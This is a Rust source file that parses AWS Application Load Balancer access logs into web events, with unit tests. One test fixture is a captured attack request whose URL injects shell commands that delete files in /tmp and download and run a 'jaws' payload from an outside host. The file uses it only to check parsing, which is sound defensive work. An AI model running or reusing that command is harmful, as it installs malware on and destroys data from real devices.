//! AWS Application Load Balancer access logs (the gzip files ALB writes to S3), as web
//! events.
//!
//! Space-separated fields, some quoted: `type time elb client:port target:port
//! request_processing_time target_processing_time response_processing_time elb_status_code
//! target_status_code received_bytes sent_bytes "request" "user_agent" …`; AWS appends
//! fields over time, and the ones after the user agent are ignored here except
//! `domain_name`. Times are UTC with microseconds. The request holds an absolute URL
//! (`GET https://shop.example.jp:443/cart?x=1 HTTP/1.1`) whose path and query become the
//! target; its text may hold unescaped spaces, so a quoted field ends at a quote followed by a
//! space or the line's end. `client:port` is the real client (ALB answers it directly), so
//! `--trust-proxy` only matters with another proxy in front. The status is what the client
//! got (`elb_status_code`; 403 with `waf` in `actions_executed` is an AWS WAF block).
//! Network Load Balancer and ALB connection-log lines that land in the same bucket are
//! skipped as `other-log-type`.

use std::borrow::Cow;

use ecir_model::{Event, SourceKind};

use crate::time::iso8601;
use crate::{skip, EventSink, Format, ParseContext, Parser};

pub struct AwsAlb;

const VARIANTS: &[(&str, &str)] = &[(
    "aws-alb",
    "AWS Application Load Balancer access log (type time elb client:port … \"request\" \"user_agent\" …)",
)];

/// Request types an ALB access-log line starts with.
const TYPES: &[&str] = &["http", "https", "h2", "grpcs", "ws", "wss"];

/// Fields of an ALB line read at most (the rest is ignored); `domain_name` is the 19th.
const MAX_FIELDS: usize = 20;
/// Fields through the user agent: fewer is not an access-log line.
const MIN_FIELDS: usize = 14;

/// Splits an ALB line into fields: separated by spaces; a field opening with `"` runs to the
/// next `"` followed by a space or the end, and is returned without its quotes.
fn fields<'a>(line: &'a str, out: &mut [&'a str; MAX_FIELDS]) -> usize {
    let mut n = 0;
    let mut rest = line;
    while n < MAX_FIELDS {
        rest = rest.trim_start_matches(' ');
        if rest.is_empty() {
            break;
        }
        if let Some(body) = rest.strip_prefix('"') {
            let end = body
                .match_indices('"')
                .map(|(i, _)| i)
                .find(|&i| body[i + 1..].is_empty() || body[i + 1..].starts_with(' '))
                .unwrap_or(body.len());
            out[n] = &body[..end];
            rest = body.get(end + 1..).unwrap_or("");
        } else {
            let end = rest.find(' ').unwrap_or(rest.len());
            out[n] = &rest[..end];
            rest = &rest[end..];
        }
        n += 1;
    }
    n
}

/// Whether `line` opens like an ALB access-log line: a request type, then a UTC time.
fn looks_like_alb(line: &[u8]) -> bool {
    let Some(sp) = memchr::memchr(b' ', line) else {
        return false;
    };
    let ty = &line[..sp];
    let rest = &line[sp + 1..];
    TYPES.iter().any(|t| t.as_bytes() == ty)
        && rest.len() > 28
        && rest[4] == b'-'
        && rest[10] == b'T'
        && rest[..28].contains(&b'Z')
}

impl Format for AwsAlb {
    fn variants(&self) -> &'static [(&'static str, &'static str)] {
        VARIANTS
    }

    fn source(&self) -> SourceKind {
        SourceKind::Web
    }

    fn detect(&self, sample: &[&[u8]]) -> Option<(usize, f64)> {
        let ctx = ParseContext::default();
        let ok = sample
            .iter()
            .filter(|l| matches!(parse(l, &ctx), Ok(Some(_))))
            .count();
        (ok > 0).then(|| (0, ok as f64 / sample.len() as f64))
    }

    fn parser(&self, _variant: usize, ctx: &ParseContext) -> Box<dyn Parser> {
        Box::new(AlbParser { ctx: ctx.clone() })
    }
}

struct AlbParser {
    ctx: ParseContext,
}

impl Parser for AlbParser {
    fn feed(&mut self, line: u64, bytes: &[u8], sink: &mut dyn EventSink) {
        if let Some(reason) = crate::precheck(bytes) {
            return sink.skip(line, reason, bytes);
        }
        // AWS escapes control characters in the request and agent: a raw CR separates records.
        if crate::has_bare_cr(bytes) {
            let ctx = &self.ctx;
            return crate::feed_split_at_cr(line, bytes, sink, &mut |record, sink| {
                feed_record(line, record, ctx, sink)
            });
        }
        feed_record(line, bytes, &self.ctx, sink)
    }
}

/// Passes one record to `sink` as an event or a skip.
fn feed_record(line: u64, bytes: &[u8], ctx: &ParseContext, sink: &mut dyn EventSink) {
    match parse(bytes, ctx) {
        Ok(Some(ev)) => sink.event(&ev, line, bytes),
        Ok(None) => sink.skip(line, skip::OTHER_LOG_TYPE, bytes),
        Err(reason) => sink.skip(line, reason, bytes),
    }
}

/// One ALB line: `Ok(None)` for a line of another log type (NLB, ALB connection log).
fn parse<'a>(bytes: &'a [u8], ctx: &ParseContext) -> Result<Option<Event<'a>>, &'static str> {
    if !looks_like_alb(bytes) {
        // NLB lines start `tls 2.0 …`; connection-log lines start with their time.
        let other = bytes.starts_with(b"tls ") || bytes.first().is_some_and(u8::is_ascii_digit);
        return if other {
            Ok(None)
        } else {
            Err(skip::UNPARSEABLE)
        };
    }
    let text = match std::str::from_utf8(bytes) {
        Ok(t) => Cow::Borrowed(t),
        Err(_) => String::from_utf8_lossy(bytes),
    };
    let mut f = [""; MAX_FIELDS];
    let n = fields(&text, &mut f);
    if n < MIN_FIELDS || !f[2].contains('/') {
        return Err(skip::UNPARSEABLE);
    }
    let ts = iso8601(f[1].as_bytes(), ctx).ok_or(skip::BAD_TIMESTAMP)?;
    let status = f[8].parse::<u16>().ok().filter(|s| (100..=999).contains(s));
    let (method, target, protocol, url_host) = request(f[12]);
    if status.is_none() && target.is_none() {
        return Err(skip::UNPARSEABLE);
    }
    let client_ip = ctx.client_ip(client_address(f[3]), None);
    // Request, target and response processing, in seconds; -1 when ALB answered itself.
    let duration_ms = f[5..8]
        .iter()
        .filter_map(|t| t.parse::<f64>().ok())
        .filter(|s| s.is_finite() && *s >= 0.0 && *s < 1e7)
        .fold(None, |sum: Option<f64>, s| Some(sum.unwrap_or(0.0) + s))
        .map(|secs| (secs * 1000.0).round() as u64);
    let domain = f
        .get(18)
        .copied()
        .filter(|d| n > 18 && !d.is_empty() && *d != "-");
    let own = |s: &str| Cow::Owned(s.to_string());
    Ok(Some(Event {
        ts: Some(ts),
        source: Some(SourceKind::Web),
        client_ip,
        method: method.map(own),
        target: target.map(own),
        protocol: protocol.map(own),
        status,
        bytes: f[11].parse().ok(),
        referer: None,
        user_agent: Some(f[13]).filter(|u| !u.is_empty() && *u != "-").map(own),
        host: domain.or(url_host).map(own),
        user: None,
        duration_ms,
        detail: Default::default(),
        query_memo: Default::default(),
    }))
}

/// The client address of `client:port` (IPv6 written with or without brackets).
fn client_address(field: &str) -> &str {
    if field.starts_with('[') {
        return field; // `[v6]:port`: parse_ip reads it
    }
    match field.rsplit_once(':') {
        Some((addr, port)) if port.bytes().all(|b| b.is_ascii_digit()) => addr,
        _ => field,
    }
}

/// Method, target (path and query), protocol and host of `METHOD scheme://host:port/path
/// HTTP/x`; `-` parts are absent.
fn request(r: &str) -> (Option<&str>, Option<&str>, Option<&str>, Option<&str>) {
    let r = r.trim();
    let (method, rest) = r.split_once(' ').unwrap_or((r, ""));
    let (url, protocol) = match rest.rsplit_once(' ') {
        Some((u, p)) if p.starts_with("HTTP/") => (u, Some(p)),
        _ => (rest.trim_end(), None),
    };
    let method = Some(method).filter(|m| !m.is_empty() && *m != "-");
    let (host, target) = match url.split_once("://") {
        Some((_, after)) => match after.find('/') {
            Some(i) => (Some(&after[..i]), Some(&after[i..])),
            None => (Some(after), None),
        },
        None => (None, Some(url).filter(|u| u.starts_with('/'))),
    };
    let host = host
        .map(|h| h.rsplit_once(':').map_or(h, |(name, _)| name))
        .filter(|h| !h.is_empty());
    (method, target, protocol, host)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::parse_all;
    use crate::{by_name, detect};

    const DOC: &str = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-""#;
    const SPACE_IN_URI: &str = r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#;
    const MALFORMED: &str = r#"http 2025-05-01T11:24:32.748149Z app/internal-service-alb/abcd1234efgh5678 127.0.0.1:57273 - -1 -1 -1 200 - 0 272 "- http://internal-service-alb.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000"#;
    const WAF_BLOCK: &str = r#"https 2026-11-03T01:02:03.000001Z app/shop-alb/0123456789abcdef 2001:db8::7:51234 - -1 -1 -1 403 - 310 500 "POST https://shop.example.jp:443/admin/login?x=1 HTTP/2.0" "python-requests/2.31" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 - "Root=1-1" "shop.example.jp" "arn:aws:acm:x" 0 2026-11-03T01:02:03.000000Z "waf" "-" "-" "-" "-" "-" "-""#;

    fn one(line: &str) -> Event<'static> {
        let c = parse_all(by_name("aws-alb").unwrap(), &ParseContext::default(), line);
        assert!(c.skips.is_empty(), "{:?}", c.skips);
        c.events[0].1.clone()
    }

    #[test]
    fn the_documented_line() {
        let e = one(DOC);
        assert_eq!(e.ts.unwrap().to_rfc3339(), "2018-07-02T22:23:00.186+00:00");
        assert_eq!(e.client_ip.unwrap().to_string(), "192.168.131.39");
        assert_eq!(e.method.as_deref(), Some("GET"));
        assert_eq!(e.target.as_deref(), Some("/"));
        assert_eq!(e.protocol.as_deref(), Some("HTTP/1.1"));
        assert_eq!(e.status, Some(200));
        assert_eq!(e.bytes, Some(366));
        assert_eq!(e.user_agent.as_deref(), Some("curl/7.46.0"));
        assert_eq!(e.host.as_deref(), Some("www.example.com"));
        assert_eq!(e.duration_ms, Some(1));
    }

    #[test]
    fn a_request_with_spaces_keeps_its_whole_target() {
        let e = one(SPACE_IN_URI);
        assert_eq!(
            e.target.as_deref(),
            Some("/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
        );
        assert_eq!(e.user_agent.as_deref(), Some("Hello, world"));
        assert_eq!(e.status, Some(301));
        assert_eq!(e.duration_ms, None, "ALB answered itself");
    }

    #[test]
    fn malformed_requests_and_ipv6_clients_and_waf_blocks() {
        let e = one(MALFORMED);
        assert_eq!(e.method, None);
        assert_eq!(e.target.as_deref(), Some("/"));
        assert_eq!(e.host.as_deref(), Some("internal-service-alb.example.com"));
        let e = one(WAF_BLOCK);
        assert_eq!(e.client_ip.unwrap().to_string(), "2001:db8::7");
        assert_eq!(e.status, Some(403));
        assert_eq!(e.target.as_deref(), Some("/admin/login?x=1"));
        assert_eq!(e.host.as_deref(), Some("shop.example.jp"));
    }

    #[test]
    fn detected_and_other_log_types_skipped() {
        let sample: Vec<&[u8]> = vec![DOC.as_bytes(), SPACE_IN_URI.as_bytes()];
        assert_eq!(detect(&sample).unwrap().name(), "aws-alb");
        let text = format!(
            "{DOC}\ntls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:x - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30\n2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 - - - Success - - - -\nnot a log line\n"
        );
        let c = parse_all(by_name("aws-alb").unwrap(), &ParseContext::default(), &text);
        assert_eq!(c.events.len(), 1);
        assert_eq!(
            c.skips,
            vec![
                (2, skip::OTHER_LOG_TYPE),
                (3, skip::OTHER_LOG_TYPE),
                (4, skip::UNPARSEABLE)
            ]
        );
    }

    /// The bundled sample's access log written as ALB lines reads as the same requests.
    #[test]
    fn sample_shop_requests_read_the_same_through_alb() {
        let clf_text = std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../fixtures/sample-shop/access_log"
        ))
        .unwrap();
        let ctx = ParseContext::default();
        let clf = parse_all(by_name("combined").unwrap(), &ctx, &clf_text);
        assert!(clf.events.len() > 100);
        let mut alb_text = String::new();
        for (_, e) in &clf.events {
            let t = e.ts.unwrap().to_datetime().with_timezone(&chrono::Utc);
            let ua = e.user_agent.as_deref().unwrap_or("-");
            alb_text += &format!(
                "https {} app/shop/0123 {}:443 10.0.0.5:80 0.000 0.001 0.000 {} {} 100 {} \"{} https://shop.example.jp:443{} {}\" \"{}\" ECDHE TLSv1.2 arn:x \"Root=1\" \"-\" \"-\" 0 - \"forward\" \"-\" \"-\" \"-\" \"-\" \"-\" \"-\"\n",
                t.format("%Y-%m-%dT%H:%M:%S%.6fZ"),
                e.client_ip.unwrap(),
                e.status.unwrap(),
                e.status.unwrap(),
                e.bytes.unwrap_or(0),
                e.method.as_deref().unwrap(),
                e.target.as_deref().unwrap(),
                e.protocol.as_deref().unwrap_or("HTTP/1.1"),
                ua,
            );
        }
        let alb = parse_all(by_name("aws-alb").unwrap(), &ctx, &alb_text);
        assert!(alb.skips.is_empty(), "{:?}", alb.skips);
        assert_eq!(alb.events.len(), clf.events.len());
        for ((_, a), (_, c)) in alb.events.iter().zip(&clf.events) {
            assert_eq!(a.ts.map(|t| t.utc_ms), c.ts.map(|t| t.utc_ms));
            assert_eq!(a.client_ip, c.client_ip);
            assert_eq!(a.method, c.method);
            assert_eq!(a.target, c.target);
            assert_eq!(a.status, c.status);
            assert_eq!(a.bytes, Some(c.bytes.unwrap_or(0)));
            assert_eq!(
                a.user_agent.as_deref(),
                c.user_agent.as_deref().filter(|u| *u != "-")
            );
        }
    }

    #[test]
    fn crowdsec_alb_corpus_paths_statuses_and_clients() {
        let Some(dir) = crate::testing::shared_dir() else {
            eprintln!("skipped: ../shared is absent");
            return;
        };
        let base = dir.join("corpus/crowdsec-hub-tests/tests/aws-alb-logs");
        let log = std::fs::read_to_string(base.join("aws-alb-logs.log")).unwrap();
        let assert = std::fs::read_to_string(base.join("parser.assert")).unwrap();
        let sample: Vec<&[u8]> = log.lines().map(str::as_bytes).collect();
        assert_eq!(detect(&sample).unwrap().name(), "aws-alb");
        let c = parse_all(by_name("aws-alb").unwrap(), &ParseContext::default(), &log);
        assert!(c.skips.is_empty(), "{:?}", c.skips);
        // `…[i].Evt.Meta["key"] == "value"` lines of the ground truth.
        let mut checked = 0;
        for l in assert.lines() {
            let Some((lhs, value)) = l.split_once(" == ") else {
                continue;
            };
            let Some(i) = lhs
                .split("[\"crowdsecurity/aws-alb\"][")
                .nth(1)
                .and_then(|r| r.split(']').next())
                .and_then(|n| n.parse::<usize>().ok())
            else {
                continue;
            };
            let value = value.trim().trim_matches('"');
            let e = &c.events[i].1;
            let got = if lhs.contains("[\"http_path\"]") {
                e.target.as_deref().unwrap_or("").to_string()
            } else if lhs.contains("[\"http_status\"]") {
                e.status.map(|s| s.to_string()).unwrap_or_default()
            } else if lhs.contains("[\"source_ip\"]") {
                e.client_ip.map(|i| i.to_string()).unwrap_or_default()
            } else {
                continue;
            };
            assert_eq!(got, value, "{l}");
            checked += 1;
        }
        assert!(checked >= 30, "{checked} facts checked");
    }
}
